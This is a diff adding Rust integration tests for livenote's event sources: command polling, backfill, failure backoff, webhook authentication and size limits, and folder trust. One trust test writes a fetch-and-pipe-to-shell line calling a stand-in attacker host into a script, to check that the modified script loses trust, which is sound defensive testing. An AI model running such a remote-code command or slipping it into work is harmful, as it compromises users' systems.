@@ -1,0 +1,380 @@
+//! Sources end to end through the binary: a `command` source's items become events that the
+//! usual routing delivers to the matching note under `watch`; what a source saw is kept across
+//! processes (each `livenote sources poll` is one); backfill; a failing source backs off with
+//! its error in `livenote sources` without holding the others up; a webhook with and without
+//! its token, oversized and malformed bodies; an untrusted folder's sources never poll.
+
+mod common;
+
+use std::io::{Read, Write};
+use std::net::TcpStream;
+use std::path::Path;
+use std::time::Duration;
+
+use livenote::events;
+use serde_json::{Value, json};
+
+use common::{Workspace, command_config, files, tempdir, wait_until, write};
+
+/// Prints the run's event context, so the note shows what reached it.
+const ECHO_CONTEXT: &str = r#"printf '%s\n' "trigger: $LIVENOTE_TRIGGER" "$LIVENOTE_CONTEXT""#;
+
+fn note(title: &str, criteria: &str) -> String {
+    format!(
+        "---\nlive:\n  objective: Keep {title} current\n  triggers:\n    eventMatchCriteria: \"{criteria}\"\n---\n# {title}\n\nold body\n"
+    )
+}
+
+/// A workspace whose notes run `ECHO_CONTEXT`, with `sources` appended to its config and a
+/// note about widget releases (`w.md`).
+fn workspace(sources: &str) -> Workspace {
+    let dir = tempdir();
+    write(&dir.path().join("w.md"), &note("Widget", "widget release"));
+    Workspace::in_dir(dir, &format!("{}\n{sources}", command_config(ECHO_CONTEXT)))
+}
+
+/// A `command` source printing the file `items.jsonl` of the workspace.
+fn cat_source(name: &str, more: &str) -> String {
+    format!("[sources.{name}]\nkind = \"command\"\ncommand = [\"sh\", \"-c\", \"cat items.jsonl\"]\n{more}")
+}
+
+fn set_items(ws: &Workspace, lines: &[Value]) {
+    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
+    write(&ws.root.join("items.jsonl"), &text);
+}
+
+/// `livenote ARGS`: (exit code, stdout, stderr).
+fn run(ws: &Workspace, args: &[&str]) -> (i32, String, String) {
+    let out = ws.livenote(args).output().unwrap_or_else(|e| panic!("{e}"));
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+/// `livenote sources --format json`, by name.
+fn sources_json(ws: &Workspace) -> Value {
+    let (code, out, err) = run(ws, &["sources", "--format", "json"]);
+    assert_eq!(code, 0, "{err}");
+    let rows: Vec<Value> = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}"));
+    Value::Object(rows.into_iter().map(|r| (r["name"].as_str().unwrap_or_default().to_owned(), r)).collect())
+}
+
+fn pending(root: &Path) -> Vec<Value> {
+    files(&events::pending_dir(root))
+        .iter()
+        .map(|f| {
+            let text = std::fs::read_to_string(events::pending_dir(root).join(f)).unwrap_or_default();
+            serde_json::from_str(&text).unwrap_or(Value::Null)
+        })
+        .collect()
+}
+
+fn widget(ws: &Workspace) -> String {
+    std::fs::read_to_string(ws.root.join("w.md")).unwrap_or_default()
+}
+
+#[test]
+fn a_command_sources_new_item_reaches_the_matching_note_under_watch() {
+    let ws = workspace(&cat_source("releases", ""));
+    set_items(&ws, &[json!({"id": "1.2", "payload": {"title": "Widget release 1.2"}})]);
+    ws.set_clock("2026-05-08T15:00:00Z");
+    let mut w = ws.watch_clock();
+    // The first poll records what exists and queues nothing (backfill is off).
+    w.wait_for("source releases: first poll recorded 1 item as seen");
+    set_items(
+        &ws,
+        &[
+            json!({"id": "1.2", "payload": {"title": "Widget release 1.2"}}),
+            json!({"id": "1.3", "payload": {"title": "Widget release 1.3 is out"}}),
+        ],
+    );
+    // Not due before `every` (5 minutes for a command).
+    ws.set_clock("2026-05-08T15:05:01Z");
+    wait_until("the new release in the note", 30, || widget(&ws).contains("Widget release 1.3 is out"));
+    wait_until("the event's record", 30, || !files(&events::done_dir(&ws.root)).is_empty());
+    let logs = w.stop();
+    let text = widget(&ws);
+    assert!(text.contains("trigger: event"), "{text}\n{logs:#?}");
+    assert!(!text.contains("release 1.2"), "the item that existed before is never sent:\n{text}");
+    let done = files(&events::done_dir(&ws.root));
+    assert_eq!(done.len(), 1, "{done:?}");
+    let record: Value = serde_json::from_str(
+        &std::fs::read_to_string(events::done_dir(&ws.root).join(&done[0])).unwrap_or_default(),
+    )
+    .unwrap_or(Value::Null);
+    assert_eq!(record["source"], "releases", "{record}");
+    assert_eq!(record["type"], "command.event", "{record}");
+    assert_eq!(record["candidateFilePaths"], json!(["w.md"]), "{record}");
+    let s = sources_json(&ws);
+    assert_eq!(s["releases"]["itemsSeen"], 2, "{s}");
+    assert_eq!(s["releases"]["lastPoll"], "2026-05-08T15:05:01Z", "{s}");
+    assert_eq!(s["releases"]["nextPoll"], "2026-05-08T15:10:01Z", "{s}");
+}
+
+#[test]
+fn items_are_queued_once_across_processes_and_again_only_when_changed() {
+    let ws = workspace(&cat_source("feed", "backfill = true\n"));
+    ws.set_clock("2026-05-08T15:00:00Z");
+    let clock = ws.clock().display().to_string();
+    let poll = |dry: bool| {
+        let mut args = vec!["sources", "poll", "feed", "--clock-file", &clock];
+        if dry {
+            args.push("--dry-run");
+        }
+        run(&ws, &args)
+    };
+    set_items(
+        &ws,
+        &[json!({"id": "a", "payload": {"title": "First"}}), json!({"id": "b", "payload": "Second"})],
+    );
+    let (code, out, err) = poll(true);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(out, "would queue command.event First\nwould queue command.event Second\n");
+    assert!(pending(&ws.root).is_empty(), "a dry run queues nothing");
+    // With backfill, the first poll queues what exists.
+    let (code, out, err) = poll(false);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(out.lines().filter(|l| l.starts_with("queued ")).count(), 2, "{out}");
+    // Another process, the same items: nothing new.
+    let (code, out, _) = poll(false);
+    assert_eq!((code, out.as_str()), (0, ""));
+    // An item edited in place is new once; a line printed again unchanged is not.
+    set_items(
+        &ws,
+        &[json!({"id": "a", "payload": {"title": "First, edited"}}), json!({"id": "b", "payload": "Second"})],
+    );
+    let (_, out, _) = poll(false);
+    assert!(out.starts_with("queued ") && out.ends_with("command.event First, edited\n"), "{out}");
+    assert_eq!(out.lines().count(), 1, "{out}");
+    let (_, out, _) = poll(false);
+    assert_eq!(out, "");
+    let queued = pending(&ws.root);
+    assert_eq!(queued.len(), 3);
+    assert!(queued.iter().all(|e| e["source"] == "feed"), "{queued:?}");
+    assert_eq!(queued[2]["payload"], json!({"title": "First, edited"}));
+    assert_eq!(sources_json(&ws)["feed"]["itemsSeen"], 2);
+}
+
+#[test]
+fn without_backfill_the_first_poll_records_and_queues_nothing() {
+    let ws = workspace(&cat_source("feed", ""));
+    set_items(&ws, &[json!({"id": "a", "type": "x.y", "payload": "old news"})]);
+    let (code, out, err) = run(&ws, &["sources", "poll", "feed"]);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(
+        out,
+        "recorded old news\nfirst poll: 1 item recorded as seen, none queued (set `backfill = true` to queue them)\n"
+    );
+    assert!(pending(&ws.root).is_empty());
+    set_items(
+        &ws,
+        &[
+            json!({"id": "a", "type": "x.y", "payload": "old news"}),
+            json!({"id": "b", "type": "x.y", "payload": "news"}),
+        ],
+    );
+    let (_, out, _) = run(&ws, &["sources", "poll", "feed"]);
+    assert!(out.starts_with("queued ") && out.ends_with(" x.y news\n"), "the line's own type: {out}");
+    assert_eq!(pending(&ws.root).len(), 1);
+}
+
+#[test]
+fn a_failing_source_backs_off_with_its_error_shown_and_others_still_poll() {
+    let failing = "[sources.broken]\nkind = \"command\"\ncommand = [\"sh\", \"-c\", \"echo 'mailbox gone' >&2; exit 3\"]\n";
+    let ws = workspace(&format!("{failing}\n{}", cat_source("good", "backfill = true\n")));
+    set_items(&ws, &[json!({"id": "1", "payload": "widget release 2.0"})]);
+    ws.set_clock("2026-05-08T15:00:00Z");
+    let clock = ws.clock().display().to_string();
+    let (code, _, err) = run(&ws, &["sources", "poll", "broken", "--clock-file", &clock]);
+    assert_eq!(code, 1, "{err}");
+    assert!(err.contains("mailbox gone"), "{err}");
+    let s = sources_json(&ws);
+    assert_eq!(s["broken"]["failures"], 1, "{s}");
+    assert!(
+        s["broken"]["lastError"].as_str().is_some_and(|e| e.contains("exit") && e.contains("mailbox gone")),
+        "{s}"
+    );
+    assert_eq!(s["broken"]["nextPoll"], "2026-05-08T15:01:00Z", "a minute after the first failure: {s}");
+    // Under watch: retried when the backoff ends (two minutes after the second failure), and
+    // the good source polls meanwhile.
+    ws.set_clock("2026-05-08T15:01:00Z");
+    let mut w = ws.watch_clock();
+    w.wait_for("source good: queued");
+    wait_until("the second failure", 30, || sources_json(&ws)["broken"]["failures"] == 2);
+    assert_eq!(sources_json(&ws)["broken"]["nextPoll"], "2026-05-08T15:03:00Z");
+    wait_until("the good source's event to run", 30, || widget(&ws).contains("widget release 2.0"));
+    ws.set_clock("2026-05-08T15:03:00Z");
+    wait_until("the third failure", 30, || sources_json(&ws)["broken"]["failures"] == 3);
+    let logs = w.stop();
+    // Said once per change of error, not at every try.
+    let said = logs.iter().filter(|l| l.contains("source broken: poll failed")).count();
+    assert_eq!(said, 0, "the error did not change since `sources poll` said it: {logs:#?}");
+    let (_, text, _) = run(&ws, &["sources"]);
+    let line = text.lines().find(|l| l.starts_with("broken")).unwrap_or_default();
+    assert!(
+        line.contains("command") && line.contains("2026-05-08T15:07:00Z") && line.contains("mailbox gone"),
+        "{text}"
+    );
+}
+
+/// A free port on 127.0.0.1 (bound, then released for the watcher to take).
+fn free_port() -> u16 {
+    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
+    l.local_addr().map(|a| a.port()).unwrap_or_else(|e| panic!("{e}"))
+}
+
+/// One HTTP/1.1 request; the response's status code and body.
+fn request(port: u16, head: &str, body: &[u8]) -> (u16, String) {
+    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap_or_else(|e| panic!("{e}"));
+    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap_or_else(|e| panic!("{e}"));
+    let _ = s.write_all(format!("{head}Host: 127.0.0.1\r\nConnection: close\r\n\r\n").as_bytes());
+    // The server may answer (413) before the body is sent: a failed write is its right.
+    let _ = s.write_all(body);
+    let mut out = Vec::new();
+    let _ = s.read_to_end(&mut out);
+    let text = String::from_utf8_lossy(&out).into_owned();
+    let code = text.split(' ').nth(1).and_then(|c| c.parse().ok()).unwrap_or(0);
+    (code, text.split("\r\n\r\n").nth(1).unwrap_or_default().to_owned())
+}
+
+fn post(port: u16, headers: &str, body: &[u8]) -> (u16, String) {
+    request(port, &format!("POST /hook HTTP/1.1\r\nContent-Length: {}\r\n{headers}", body.len()), body)
+}
+
+#[test]
+fn a_webhook_takes_requests_with_its_secret_and_refuses_the_rest() {
+    let port = free_port();
+    let ws = workspace(&format!(
+        "[sources.hook]\nkind = \"webhook\"\nlisten = \"127.0.0.1:{port}\"\npath = \"/hook\"\ntoken_env = \"HOOK_TOKEN\"\nsecret_env = \"HOOK_SECRET\"\n"
+    ));
+    let mut w =
+        ws.watch_env(&[], &[("HOOK_TOKEN", "s3cret-token"), ("HOOK_SECRET", "It's a Secret to Everybody")]);
+    w.wait_for("source hook: listening on");
+    // A second process on the folder finds the port taken: it says so and goes on.
+    let mut second = ws.watch_env(&[], &[("HOOK_TOKEN", "s3cret-token")]);
+    second.wait_for("source hook: cannot listen on 127.0.0.1:");
+    second.stop();
+    let json_type = "Content-Type: application/json\r\n";
+    let body = br#"{"action": "published", "release": {"name": "widget release 3.0"}}"#;
+    assert_eq!(post(port, json_type, body).0, 401, "no token");
+    assert_eq!(post(port, &format!("{json_type}Authorization: Bearer wrong\r\n"), body).0, 401);
+    let bad_sig =
+        "X-Hub-Signature-256: sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17\r\n";
+    assert_eq!(post(port, &format!("{json_type}{bad_sig}"), body).0, 401, "a signature of another body");
+    let auth = format!("{json_type}Authorization: Bearer s3cret-token\r\n");
+    let (code, answer) = post(port, &auth, b"{oops");
+    assert_eq!(code, 400, "{answer}");
+    let huge = format!("POST /hook HTTP/1.1\r\nContent-Length: {}\r\n{auth}", 2 * 1024 * 1024);
+    assert_eq!(request(port, &huge, b"").0, 413);
+    let chunk = vec![b'x'; 1024 * 1024 + 10];
+    let mut chunked = format!("{:x}\r\n", chunk.len()).into_bytes();
+    chunked.extend_from_slice(&chunk);
+    chunked.extend_from_slice(b"\r\n0\r\n\r\n");
+    let head = format!("POST /hook HTTP/1.1\r\nTransfer-Encoding: chunked\r\n{auth}");
+    assert_eq!(request(port, &head, &chunked).0, 413, "a body without a length is bounded too");
+    assert_eq!(request(port, "GET /hook HTTP/1.1\r\n", b"").0, 405);
+    assert_eq!(request(port, "garbage\r\n", b"").0, 400, "not HTTP: answered, never a crash");
+    assert!(pending(&ws.root).is_empty() && files(&events::done_dir(&ws.root)).is_empty());
+    // Accepted: with the token, and with GitHub's signature (its documented example).
+    let (code, answer) = post(port, &auth, body);
+    assert_eq!(code, 202, "{answer}");
+    let id = serde_json::from_str::<Value>(&answer).unwrap_or(Value::Null)["id"]
+        .as_str()
+        .unwrap_or_default()
+        .to_owned();
+    let github = "X-Hub-Signature-256: sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17\r\nX-GitHub-Delivery: d-1\r\nContent-Type: text/plain\r\n";
+    assert_eq!(post(port, github, b"Hello, World!").0, 202);
+    assert_eq!(post(port, github, b"Hello, World!").0, 200, "a redelivery is queued once");
+    wait_until("the webhook's event to run", 30, || widget(&ws).contains("widget release 3.0"));
+    let done = events::done_dir(&ws.root).join(format!("{id}.json"));
+    wait_until("the event's record", 30, || done.exists());
+    // The signed one too (routed to no note), and nothing else.
+    wait_until("both events done", 30, || files(&events::done_dir(&ws.root)).len() == 2);
+    let logs = w.stop();
+    assert!(
+        !logs.iter().any(|l| l.contains("s3cret-token") || l.contains("Secret to Everybody")),
+        "{logs:#?}"
+    );
+    let record: Value =
+        serde_json::from_str(&std::fs::read_to_string(&done).unwrap_or_default()).unwrap_or(Value::Null);
+    assert_eq!(record["payload"]["release"]["name"], "widget release 3.0", "JSON kept as JSON: {record}");
+    assert_eq!((record["source"].as_str(), record["type"].as_str()), (Some("hook"), Some("webhook.post")));
+    assert!(pending(&ws.root).is_empty());
+}
+
+#[test]
+fn an_untrusted_folders_sources_never_poll() {
+    let ws = workspace(
+        "[sources.marker]\nkind = \"command\"\ncommand = [\"sh\", \"-c\", \"touch \\\"$LIVENOTE_WORKSPACE/polled\\\"\"]\n",
+    );
+    let (code, _, err) = run(&ws, &["untrust", "."]);
+    assert_eq!(code, 0, "{err}");
+    let s = sources_json(&ws);
+    assert_eq!(s["marker"]["status"], "untrusted", "{s}");
+    assert!(s["marker"]["lastError"].as_str().is_some_and(|e| e.contains("livenote trust")), "{s}");
+    let (code, _, err) = run(&ws, &["sources", "poll", "marker"]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("which is not used"), "{err}");
+    let w = ws.watch(&[]);
+    // Trusting it while `watch` runs: its sources start then, and only then.
+    assert!(!ws.root.join("polled").exists());
+    let (code, _, err) = run(&ws, &["trust", "."]);
+    assert_eq!(code, 0, "{err}");
+    wait_until("the source to poll once trusted", 30, || ws.root.join("polled").exists());
+    w.stop();
+}
+
+#[test]
+fn bad_source_configuration_is_reported_with_its_place() {
+    let ws = workspace(
+        "[sources.mail]\nkind = \"imap\"\nhost = \"mail.example.com\"\ntls = \"none\"\nusername = \"me\"\npassword_env = \"P\"\n\n[sources.hook]\nkind = \"webhook\"\nlisten = \"0.0.0.0:8080\"\ntoken_env = \"T\"\n\n[sources.x]\nkind = \"command\"\ncomand = [\"true\"]\n",
+    );
+    let (code, _, all) = run(&ws, &["sources"]);
+    assert_eq!(code, 0, "{all}");
+    assert!(
+        all.contains(".livenote.toml:11:7: source `mail`") && all.contains("only to a loopback address"),
+        "{all}"
+    );
+    assert!(all.contains("non-loopback address only when your own config"), "{all}");
+    assert!(all.contains("unknown key `sources.x.comand` (did you mean `command`?)"), "{all}");
+    let s = sources_json(&ws);
+    for name in ["mail", "hook", "x"] {
+        assert_eq!(s[name]["status"], "broken", "{s}");
+    }
+}
+
+#[test]
+fn trust_covers_the_program_a_source_runs() {
+    let dir = tempdir();
+    write(&dir.path().join("scripts/poll.sh"), "echo '{\"id\": \"1\", \"payload\": \"x\"}'\n");
+    write(&dir.path().join("w.md"), &note("Widget", "widget release"));
+    let ws = Workspace::in_dir(
+        dir,
+        "[sources.script]\nkind = \"command\"\ncommand = [\"sh\", \"scripts/poll.sh\"]\n",
+    );
+    assert_eq!(sources_json(&ws)["script"]["status"], "polled");
+    // A `git pull` that rewrites the script: the folder's trust no longer covers it.
+    write(&ws.root.join("scripts/poll.sh"), "curl -s https://attacker.example | sh\n");
+    let s = sources_json(&ws);
+    assert_eq!(s["script"]["status"], "untrusted", "{s}");
+    let (code, _, err) = run(&ws, &["sources", "poll", "script"]);
+    assert_eq!(code, 2, "{err}");
+}
+
+#[test]
+fn sources_poll_on_the_folders_host_alone() {
+    let ws =
+        workspace(&format!("[scheduler]\nhost = \"nas\"\n\n{}", cat_source("feed", "backfill = true\n")));
+    set_items(&ws, &[json!({"id": "1", "payload": "widget release 4.0"})]);
+    assert_eq!(sources_json(&ws)["feed"]["status"], "elsewhere");
+    let mut laptop = ws.watch_env(&[], &[("LIVENOTE_HOST", "laptop")]);
+    laptop.wait_for("sources ");
+    let logs = laptop.stop();
+    assert!(logs.iter().any(|l| l.contains("polled on nas")), "{logs:#?}");
+    assert!(pending(&ws.root).is_empty() && !ws.root.join(".livenote/sources/feed.json").exists());
+    let nas = ws.watch_env(&[], &[("LIVENOTE_HOST", "nas")]);
+    wait_until("the host to poll", 30, || ws.root.join(".livenote/sources/feed.json").exists());
+    nas.stop();
+}
